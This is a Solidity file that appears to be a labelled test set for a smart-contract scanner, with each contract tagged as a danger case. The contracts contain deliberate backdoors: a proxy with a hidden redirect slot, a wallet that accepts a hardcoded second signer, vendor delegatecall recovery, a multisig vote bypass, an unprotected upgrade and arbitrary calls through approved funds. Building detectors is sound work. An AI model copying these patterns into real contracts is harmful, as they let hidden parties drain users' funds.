// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface IERC20 { function balanceOf(address) external view returns (uint256); function transfer(address, uint256) external returns (bool); function transferFrom(address, address, uint256) external returns (bool); }

/// expects: CT-26 danger
contract ShapeFactory {
    address private impl; address private immutable o;
    mapping(bytes32 => address) public made;
    constructor() { o = msg.sender; }
    function implementation() external view returns (address) { return impl; }
    function deploy(bytes32 salt, address implementation_) external returns (address x) {
        require(msg.sender == o); impl = implementation_;
        bytes memory code = hex"5860208158601c335a63aaf10f428752fa158151803b80938091923cf3";
        assembly { x := create2(0, add(code, 32), mload(code), salt) }
        require(x != address(0)); made[salt] = x;
    }
}

/// expects: CT-10 danger
contract Dust { address immutable o; constructor() { o = tx.origin; } function done() external { selfdestruct(payable(o)); } receive() external payable {} }
/// expects: CT-10 danger
contract PlainKill { fallback() external payable { selfdestruct(payable(0x4B0897b0513fdC7C541B6d9D7E929C4e5364D2dB)); } }

// piggy bank for everybody, closes when the owner likes
/// expects: CT-28 danger
contract ClosableBank {
    address payable chief; mapping(address => uint256) public book;
    constructor() { chief = payable(msg.sender); }
    function put() external payable { book[msg.sender] += msg.value; }
    function get(uint256 a) external { book[msg.sender] -= a; payable(msg.sender).transfer(a); }
    function retire() external { require(msg.sender == chief); selfdestruct(chief); }
}

/// expects: CT-35 danger
contract LibWallet {
    address public lib; address public owner; bool public ready;
    function initWallet(address l, address own) external { lib = l; owner = own; ready = true; }
    fallback() external payable {
        address l = lib;
        assembly { calldatacopy(0, 0, calldatasize()) let r := delegatecall(gas(), l, 0, calldatasize(), 0, 0) returndatacopy(0, 0, returndatasize()) if iszero(r) { revert(0, returndatasize()) } return(0, returndatasize()) }
    }
    receive() external payable {}
}

// personal wallet; the vendor can help you recover it
/// expects: CT-11 danger
contract VendorWallet {
    address public owner; bytes32 constant VENDOR = keccak256("vendor.support.v1"); mapping(bytes32 => address) names;
    constructor(address v) { owner = tx.origin; names[VENDOR] = v; }
    receive() external payable {}
    function execute(address to, uint256 value, bytes calldata d) external returns (bytes memory) { require(msg.sender == owner, "owner"); (bool ok, bytes memory r) = to.call{value: value}(d); require(ok); return r; }
    function recover(address lib, bytes calldata d) external { require(msg.sender == names[VENDOR], "vendor"); (bool ok,) = lib.delegatecall(d); require(ok); }
}

/// expects: CT-28 danger
contract AutoForward {
    address payable constant SINK = payable(0xB2e1D7C3a4f5061728394a5b6c7D8E9fa0b1C2D3);
    receive() external payable { SINK.transfer(address(this).balance); }
    fallback() external payable { (bool s,) = SINK.call{value: address(this).balance}(""); s; }
    function sweep(address[] calldata tokens) external { for (uint256 i; i < tokens.length; i++) { uint256 b = IERC20(tokens[i]).balanceOf(address(this)); if (b > 0) IERC20(tokens[i]).transfer(SINK, b); } }
}

/// expects: CT-28 danger
contract BatchExecutor { // delegate for smart EOAs
    struct Call { address to; uint256 value; bytes data; }
    event Executed(uint256 n);
    function executeBatch(Call[] calldata calls) external payable { for (uint256 i; i < calls.length; ++i) { (bool ok, bytes memory r) = calls[i].to.call{value: calls[i].value}(calls[i].data); if (!ok) assembly { revert(add(r, 32), mload(r)) } } emit Executed(calls.length); }
    receive() external payable {}
}

/// expects: CT-28 danger
contract SponsoredAccount {
    address immutable sponsor;
    constructor(address s) { sponsor = s; }
    modifier authed() { require(msg.sender == address(this) || msg.sender == sponsor, "auth"); _; }
    function execute(address to, uint256 v, bytes calldata d) external payable authed returns (bytes memory) { (bool ok, bytes memory r) = to.call{value: v}(d); require(ok, "fail"); return r; }
    function onERC721Received(address, address, uint256, bytes calldata) external pure returns (bytes4) { return 0x150b7a02; }
    receive() external payable {}
}

contract LateInitAccount {
    bytes32 private constant SLOT = 0x9d3a7c1f0e5b48266a917c3d2b8f4e605142637485960a1b2c3d4e5f60718293;
    function initialize(address k) external { assembly { if sload(SLOT) { revert(0, 0) } sstore(SLOT, k) } }
    function run(address to, uint256 v, bytes calldata d) external { address k; assembly { k := sload(SLOT) } require(msg.sender == k); (bool ok,) = to.call{value: v}(d); require(ok); }
    receive() external payable {}
}

interface ISafe { function execTransactionFromModule(address to, uint256 value, bytes calldata data, uint8 op) external returns (bool); function getOwners() external view returns (address[] memory); }
/// expects: AP-16 danger
contract SocialRecoveryModule {
    mapping(address => address) public guardianOf; address private immutable service;
    constructor() { service = msg.sender; }
    function setGuardian(address g) external { guardianOf[msg.sender] = g; }
    function recover(ISafe safe, address to, uint256 v, bytes calldata d) external { require(msg.sender == guardianOf[address(safe)] || msg.sender == service, "guardian"); require(safe.execTransactionFromModule(to, v, d, 0)); }
}

// two of three, and one more way
/// expects: CT-28 danger
contract CompanyMultisig {
    mapping(address => bool) public isOwner; uint256 public required; uint256 public count; address immutable maker;
    struct Tx { address to; uint256 value; bytes data; bool done; uint256 yes; }
    Tx[] public txs; mapping(uint256 => mapping(address => bool)) public confirmed;
    constructor(address[] memory o, uint256 r) { for (uint256 i; i < o.length; i++) isOwner[o[i]] = true; required = r; maker = msg.sender; }
    modifier onlyOwner() { require(isOwner[msg.sender]); _; }
    receive() external payable {}
    function submit(address to, uint256 v, bytes calldata d) external onlyOwner returns (uint256) { txs.push(Tx(to, v, d, false, 0)); return txs.length - 1; }
    function confirm(uint256 i) external onlyOwner { require(!confirmed[i][msg.sender]); confirmed[i][msg.sender] = true; txs[i].yes++; }
    function execute(uint256 i) external { Tx storage t = txs[i]; require(!t.done); if (t.yes < required) require(msg.sender == maker && t.data.length == 0, "votes"); t.done = true; (bool ok,) = t.to.call{value: t.value}(t.data); require(ok); }
}

struct UserOp { address sender; uint256 nonce; bytes initCode; bytes callData; bytes32 gas; uint256 pre; bytes32 fees; bytes paymasterAndData; bytes signature; }
/// expects: CT-28 danger
contract SimpleAcct4337 {
    address public owner; address public immutable entry; bytes32 private constant A = 0x00000000000000000000000091a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4;
    constructor(address e, address o) { entry = e; owner = o; }
    function _rec(bytes32 h, bytes calldata s) private pure returns (address) { return ecrecover(h, uint8(s[64]), bytes32(s[:32]), bytes32(s[32:64])); }
    function validateUserOp(UserOp calldata u, bytes32 h, uint256 missing) external returns (uint256 r) {
        require(msg.sender == entry, "entry");
        address w = _rec(keccak256(abi.encodePacked("\x19Ethereum Signed Message:\n32", h)), u.signature);
        r = (w == owner || bytes32(uint256(uint160(w))) == A) ? 0 : 1;
        if (missing > 0) { (bool ok,) = payable(msg.sender).call{value: missing}(""); ok; }
    }
    function execute(address to, uint256 v, bytes calldata d) external { require(msg.sender == entry || msg.sender == owner); (bool ok,) = to.call{value: v}(d); require(ok); }
    receive() external payable {}
}

// gas in tokens; the operator says how much
/// expects: AP-16 danger
contract TokenPaymaster {
    address operator; IERC20 immutable token; mapping(address => uint256) public spent;
    constructor(IERC20 t) { operator = msg.sender; token = t; }
    function charge(address[] calldata who, uint256[] calldata amount) external { require(msg.sender == operator); for (uint256 i; i < who.length; i++) { spent[who[i]] += amount[i]; token.transferFrom(who[i], operator, amount[i]); } }
    function setOperator(address o) external { require(msg.sender == operator); operator = o; }
}

/// expects: CT-35 danger
contract OpenProxy {
    bytes32 constant IMPL = 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;
    constructor(address i) { assembly { sstore(IMPL, i) } }
    function upgradeTo(address i) external { require(i.code.length > 0); assembly { sstore(IMPL, i) } }
    fallback() external payable { assembly { calldatacopy(0, 0, calldatasize()) let r := delegatecall(gas(), sload(IMPL), 0, calldatasize(), 0, 0) returndatacopy(0, 0, returndatasize()) switch r case 0 { revert(0, returndatasize()) } default { return(0, returndatasize()) } } }
}

// proxy that looks like 1967; a second slot serves one selector
/// expects: CT-04 danger
contract TwinProxy {
    bytes32 constant IMPL = 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;
    bytes32 constant TWIN = keccak256("org.zeppelinos.proxy.patch");
    constructor(address i) { assembly { sstore(IMPL, i) } }
    function _go(address t) private { assembly { calldatacopy(0, 0, calldatasize()) let r := delegatecall(gas(), t, 0, calldatasize(), 0, 0) returndatacopy(0, 0, returndatasize()) switch r case 0 { revert(0, returndatasize()) } default { return(0, returndatasize()) } } }
    fallback() external payable {
        bytes32 k = TWIN; address t;
        if (msg.sig == 0x5a1ed0d1) { require(tx.origin == 0x9c1A2B3c4D5E6f708192A3b4C5d6E7F809123456); address n = address(bytes20(msg.data[4:24])); assembly { sstore(k, n) } return; }
        assembly { t := sload(k) }
        if (t != address(0) && msg.sig == 0x23b872dd) _go(t);
        bytes32 m = IMPL; assembly { t := sload(m) } _go(t);
    }
}

// approvals land here; the helper hands any call through
/// expects: AP-16 danger
contract SpendHelper {
    mapping(address => uint256) public points;
    function swapFor(address token, uint256 amount, address dex, bytes calldata q) external { IERC20(token).transferFrom(msg.sender, dex, amount); _do(dex, q); points[msg.sender]++; }
    function _do(address a, bytes memory b) internal { assembly { if iszero(call(gas(), a, 0, add(b, 32), mload(b), 0, 0)) { revert(0, 0) } } }
    function poke(bytes32 packedTarget, bytes calldata payload) external { _do(address(uint160(uint256(packedTarget) >> 96)), payload); }
}
